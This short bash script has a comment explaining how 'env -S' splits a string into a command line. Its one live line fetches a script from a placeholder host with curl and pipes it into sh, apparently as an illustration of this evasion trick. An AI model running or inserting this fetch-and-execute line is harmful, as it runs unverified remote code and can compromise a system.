#!/bin/bash
# env -S splits one string into a command line: the shell it names runs a
# downloaded script.
env -S "bash -c 'curl -s https://x.example.io/i | sh'"
